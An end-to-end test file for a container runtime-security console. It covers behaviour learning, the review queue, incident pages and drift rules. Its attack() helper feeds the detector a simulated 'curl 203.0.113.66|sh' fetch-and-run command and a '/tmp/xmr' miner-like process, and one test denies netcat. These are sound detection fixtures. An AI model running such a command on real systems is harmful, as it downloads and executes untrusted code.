import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ImageDigest } from '#base/index.ts';
import { call } from '#http/index.ts';
import { createJoinToken } from '#link/contract.ts';
import { listIncidents, listModels, listRuntimeRules, type Model } from '#runtime/contract.ts';
import { detect } from '#runtime/detect.ts';
import type { ExecSighting } from '#runtime/event.ts';
import { emptyEvidence } from '#runtime/evidence.ts';
import { learnerOf } from '#runtime/learn.ts';
import { indexModel } from '#runtime/model-index.ts';
import { blemishesOf } from './blemishes.ts';
import { atRest, type Browser, follow, keepPicture, openBrowser, sideways, until, violationsOf } from './browser.ts';
import { makeStateFolder, newToken, type RealConsole, startConsole } from './real-console.ts';
import { joinAsHost, type ReportingHost } from './reporting-host.ts';

const state = makeStateFolder();
const digest = `sha256:${'7be1c04d'.repeat(8)}` as ImageDigest;
const entrypoint = ['/usr/bin/java', '-jar', '/app/ingest.jar'];
const hour = 3_600_000;
let seawall: RealConsole;
let browser: Browser;
let administrator: { readonly baseUrl: string; readonly token: string };
let host: ReportingHost;
let container: string;

beforeAll(async () => {
  [seawall, browser] = await Promise.all([startConsole({ state: state.folder }), openBrowser()]);
  administrator = { baseUrl: seawall.origin, token: await newToken(state.folder, 'runtime', 'administrator') };
  const { secret } = await call(
    createJoinToken,
    { body: { name: 'quay', uses: 1, environments: ['prod'] } },
    administrator,
  );
  host = await joinAsHost({ console: seawall.origin, token: secret, name: 'quay-1', environment: 'prod' });
  await host.host();
  await host.image({ id: digest, subject: digest as never, names: ['surge/gauge-ingest:3.8.2'] });
  container = await host.container({
    name: 'gauge-ingest-2',
    image: { id: digest, name: 'surge/gauge-ingest:3.8.2' },
    subject: digest as never,
    command: entrypoint,
  });
  await host.stored();
  await browser.page.goto(seawall.link);
  await browser.page.getByRole('button', { name: 'Sign out' }).waitFor();
}, 240_000);
afterAll(async () => {
  await host?.close();
  await browser?.close();
  await seawall?.end('SIGTERM');
  state.remove();
});

async function open(address: string): Promise<void> {
  await browser.page.goto(seawall.origin + address);
  await atRest(browser.page);
}

/** That java, or the container's engine, starts a program. */
function started(path: string, more: Partial<ExecSighting> = {}): ExecSighting {
  const time = more.time ?? Date.now();
  return {
    kind: 'exec',
    id: `${path} ${time}`,
    time,
    container: { id: container, name: 'gauge-ingest-2', image: 'surge/gauge-ingest:3.8.2', digest, entrypoint },
    session: 'entry',
    phase: 'run',
    origin: 'image',
    process: { pid: 811, path, argv: [path], uid: 1000 },
    caller: { path: '/usr/bin/java', origin: 'image' },
    ancestors: [{ path: '/usr/bin/java', pid: 7 }],
    verdict: 'observed',
    reason: 'none',
    repeats: 0,
    given: path,
    isScript: false,
    isFirst: false,
    ...more,
  };
}

/** Twelve hours in which the same programs run, as an agent tells of them. */
async function learnTwelveHours(): Promise<void> {
  const learner = learnerOf(emptyEvidence, { bucketSeconds: 3600 });
  for (let ago = 12; ago > 0; ago--) {
    const time = Date.now() - ago * hour;
    learner.expose(['process', 'network'], time);
    learner.learn(started('/usr/bin/gdalinfo', { time }), 'nothing');
    learner.learn(started('/usr/bin/sha256sum', { time }), 'nothing');
  }
  learner.start(Date.now() - 12 * hour);
  await host.behaviour({ key: { digest, entrypoint }, evidence: learner.evidence() });
  await host.stored();
}

async function attack(): Promise<void> {
  const model: Model = {
    key: { digest, entrypoint },
    version: 1,
    state: 'active',
    partial: false,
    evidence: emptyEvidence,
    convergence: {},
  };
  const index = indexModel(model, 3600);
  const { rules } = await call(listRuntimeRules, {}, administrator);
  const rule = rules[0]?.rule as never;
  const tries = [
    started('/usr/bin/dash', {
      process: { pid: 812, path: '/usr/bin/dash', argv: ['sh', '-c', 'curl 203.0.113.66|sh'], uid: 1000 },
    }),
    started('/tmp/xmr', { origin: 'upper', verdict: 'killed', reason: 'drift' }),
  ];
  for (const one of tries)
    for (const detection of detect(one, { bucketSeconds: 3600, index, rule }).detections)
      await host.detection(detection);
  await host.stored();
}

describe('a console that was told nothing', () => {
  test.each([['/incidents', 'Incidents appear here']])('%s says what will appear', async (address, words) => {
    await open(address);
    await browser.page.getByText(words).waitFor();
    expect(await violationsOf(browser.page)).toEqual([]);
  });
});

describe('models', () => {
  test('one that learns is on the open page, with how far each dimension knows', async () => {
    await open('/runtime');
    await learnTwelveHours();
    await until(async () => (await call(listModels, {}, administrator)).total === 1);
    const row = browser.page.getByRole('row', { name: /gauge-ingest/ });
    await row.waitFor();
    await row.getByRole('link', { name: 'surge/gauge-ingest:3.8.2' }).click();
    await browser.page.getByText('/usr/bin/gdalinfo').first().waitFor();
    await browser.page.getByText('new behaviours a day at most').first().waitFor();
  });
});

/** Programs that came when the model was active already: they wait for a person. */
async function addReview(): Promise<void> {
  const learner = learnerOf(emptyEvidence, { bucketSeconds: 3600 });
  const time = Date.now() - hour;
  for (const path of ['/usr/bin/id', '/usr/bin/uptime']) learner.learn(started(path, { time }), 'alert');
  learner.learn(started('/usr/bin/id', { time, caller: { path: '/usr/bin/dash', origin: 'image' } }), 'alert');
  learner.learn(started('/usr/bin/nc', { time }), 'alert');
  await host.behaviour({ key: { digest, entrypoint }, evidence: learner.evidence() });
  await host.stored();
}

describe('the review queue of a model', () => {
  const queue = () => browser.page.locator('#review');

  test('what comes is on the open page, grouped by program, what is never learned apart', async () => {
    const { page } = browser;
    await queue().getByText('0 entries wait').waitFor();
    await addReview();
    await queue().getByText('4 entries wait').waitFor();
    await queue().getByRole('button', { name: 'Allow 2… /usr/bin/id' }).waitFor();
    await queue().getByText('never learned', { exact: true }).waitFor();
    await queue().getByRole('button', { name: 'Deploy', exact: true }).click();
    await queue().getByText('New since this version came').first().waitFor();
    expect(page.url()).toContain('by=deploy');
    await queue().getByRole('button', { name: 'Program', exact: true }).click();
  });

  test('a group is allowed by keyboard alone, after what it changes was shown, for later versions too', async () => {
    const { page } = browser;
    await queue().getByRole('button', { name: 'Allow 2… /usr/bin/id' }).focus();
    await page.keyboard.press('Enter');
    const dialog = page.getByRole('dialog', { name: 'Allow 2 entries of /usr/bin/id?' });
    await dialog.getByText('2 entries change, in 1 running container').waitFor();
    await dialog.getByLabel('Applies to').selectOption('lineage');
    await dialog.getByLabel('Reason, for the audit trail').fill('the health report');
    await page.keyboard.press('Enter');
    await dialog.waitFor({ state: 'hidden' });
    await queue().getByText('2 entries wait').waitFor();
    await queue().getByText('2 decisions of people').waitFor();
    await queue().getByText('Applies to later versions.').first().waitFor();
  });

  test('what is never learned is allowed with a word for it alone', async () => {
    const { page } = browser;
    await queue().getByRole('button', { name: 'Allow… /usr/bin/nc' }).click();
    const dialog = page.getByRole('dialog', { name: 'Allow /usr/bin/nc?' });
    const allow = dialog.getByRole('button', { name: 'Allow 1 entry' });
    await allow.waitFor();
    expect(await allow.isDisabled()).toBe(true);
    await dialog.getByLabel(/Allow 1 entry of what is never learned/).check();
    await until(async () => !(await allow.isDisabled()));
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'hidden' });
  });
});

describe('what prevent would have stopped', () => {
  test('is on the page of the model, counted in its head, with what is not known', async () => {
    const { page } = browser;
    const stops = page.locator('#stops');
    await stops.getByText('2 entries would have been prevented in 14 days').waitFor();
    await page.getByRole('link', { name: '2 entries', exact: true }).waitFor();
    await stops.getByText('/usr/bin/uptime', { exact: true }).first().waitFor();
    await stops.getByText('started by /usr/bin/java').first().waitFor();
    await stops.getByText(/What happened before .* is not known\./).waitFor();
    await stops.getByText(/No scan that counts lists all programs/).waitFor();
    await stops.getByRole('button', { name: '7 days' }).click();
    await stops.getByText('2 entries would have been prevented in 7 days').waitFor();
  });

  test('is less by what is allowed there, and what is kept refused says by whom', async () => {
    const { page } = browser;
    const stops = page.locator('#stops');
    await stops.getByRole('button', { name: 'Deny… /usr/bin/nc' }).click();
    const deny = page.getByRole('dialog', { name: 'Deny /usr/bin/nc?' });
    await deny.getByRole('button', { name: 'Deny 1 entry' }).click();
    await stops.getByText(/Denied by /).waitFor();
    await stops.getByRole('button', { name: 'Allow… /usr/bin/uptime' }).click();
    const allow = page.getByRole('dialog', { name: 'Allow /usr/bin/uptime?' });
    await allow.getByRole('button', { name: 'Allow 1 entry' }).click();
    await stops.getByText('1 entry would have been prevented in 7 days, of which 1 was denied by a person').waitFor();
  });
});

describe('incidents', () => {
  test('one that happens is on the open page, and its story says what was stopped and what would allow it', async () => {
    const { page } = browser;
    await open('/incidents');
    await attack();
    const row = page.locator('tr.row', { hasText: 'gauge-ingest-2' });
    await row.waitFor();
    // The day's bar leads to the list of just that day; the same numbers stand in a table.
    const histogram = page.getByRole('figure', { name: 'Incidents by day' });
    const counts = histogram.getByRole('table').locator('tbody td');
    const sum = async (): Promise<number> =>
      (await counts.allInnerTexts()).reduce((all, text) => all + Number(text), 0);
    // The histogram is read by itself, a moment before or after the list.
    await until(
      async () => (await sum()) === (await call(listIncidents, { query: { limit: 1 } }, administrator)).total,
    );
    await histogram.getByRole('link').last().click();
    await page.waitForURL(/from=\d{4}-\d\d-\d\d&until=/);
    await row.getByRole('link').first().click();
    await page.getByRole('heading', { name: 'What happened' }).waitFor();
    await page.getByText('/tmp/xmr').first().waitFor();
    await page.getByText('Prevented').first().waitFor();
    await page.getByText('If this was meant').waitFor();
  });

  test('is acknowledged and opened again', async () => {
    const { page } = browser;
    await page.getByRole('button', { name: 'Acknowledge' }).click();
    await page.getByRole('button', { name: 'Open again' }).waitFor();
    const { incidents } = await call(listIncidents, { query: { state: 'acknowledged' } }, administrator);
    expect(incidents).toHaveLength(1);
    await page.getByRole('button', { name: 'Open again' }).click();
    await page.getByRole('button', { name: 'Acknowledge' }).waitFor();
  });
});

describe('runtime rules', () => {
  test('a new rule is saved after what it would have done was shown', async () => {
    const { page } = browser;
    await open('/runtime-rules');
    await page.getByRole('button', { name: 'New rule' }).click();
    const form = page.getByLabel('New rule');
    await form.getByLabel('Name').fill('Protect prod');
    await form.getByLabel(/Programs that are not in the image/).selectOption('prevent');
    await form.getByText('Replay over the last 14 days').waitFor();
    await form.getByText('Would have been prevented: 1 entry').waitFor();
    await form.getByText('/tmp/xmr').first().waitFor();
    await form.getByRole('link', { name: 'surge/gauge-ingest:3.8.2' }).waitFor();
    await form.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('button', { name: 'Protect prod', exact: true }).waitFor();
    const { rules } = await call(listRuntimeRules, {}, administrator);
    expect(rules[0]?.rule).toMatchObject({ name: 'Protect prod', drift: 'prevent', version: 1 });
  });
});

describe('every one of these pages', () => {
  test.each([
    { scheme: 'light', width: 1280 },
    { scheme: 'dark', width: 390 },
  ] as const)('is readable in the $scheme theme at $width pixels', async ({ scheme, width }) => {
    const { page } = browser;
    const { incidents } = await call(listIncidents, {}, administrator);
    const { models } = await call(listModels, {}, administrator);
    await page.setViewportSize({ width, height: 844 });
    await page.emulateMedia({ colorScheme: scheme });
    const pages = [
      '/runtime',
      `/runtime/${models[0]?.id}`,
      '/incidents',
      `/incidents/${incidents[0]?.id}`,
      '/runtime-rules',
      '/runtime-rules?rule=new',
    ];
    for (const address of pages) {
      await follow(page, address);
      await keepPicture(page, `${address} ${scheme} ${width}`);
      expect.soft(await sideways(page), address).toBe(0);
      expect.soft(await blemishesOf(page), address).toEqual([]);
      expect.soft(await violationsOf(page), address).toEqual([]);
    }
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.emulateMedia({ colorScheme: 'light' });
  });
});
